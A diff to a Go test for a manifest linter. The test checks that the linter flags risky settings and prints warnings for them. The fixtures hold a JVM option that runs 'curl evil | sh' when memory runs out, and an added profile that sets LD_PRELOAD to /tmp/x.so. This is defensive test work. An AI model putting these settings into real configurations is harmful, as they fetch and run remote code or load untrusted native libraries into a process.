@@ -22,6 +22,8 @@ variants:
   own: {command: [./server, --port, "{port}"]}
 load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
 trials: 3
+profiles:
+  full: {variants: {own: {env: {LD_PRELOAD: /tmp/x.so}}}}
 `
 	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
 		t.Fatal(err)
@@ -34,6 +36,9 @@ trials: 3
 		f + ": variants.platform.jvm: runs: $JAVA_HOME/bin/java '-XX:OnOutOfMemoryError=sh -c '\\''curl evil | sh'\\''' -jar env/targets/spring-mvc/target/spring-mvc.jar --server.port={port}",
 		f + ": variants.own.command: runs: ./server --port {port}",
 		f + `: variants.platform.jvm[0]: warning: JVM option "-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'" runs a shell command when the heap runs out`,
+		// What a profile changes is shown too: lint reviews every profile.
+		f + ": variants.own.command: runs: env LD_PRELOAD=/tmp/x.so ./server --port {port} (with --profile full)",
+		f + ": variants.own.env.LD_PRELOAD: warning: LD_PRELOAD loads a native library into the process: review it like code (a manifest is code; see Trust model in README.md) (with --profile full)",
 	} {
 		if !strings.Contains(out.String(), want) {
 			t.Errorf("lint output lacks\n%s\ngot:\n%s", want, out.String())
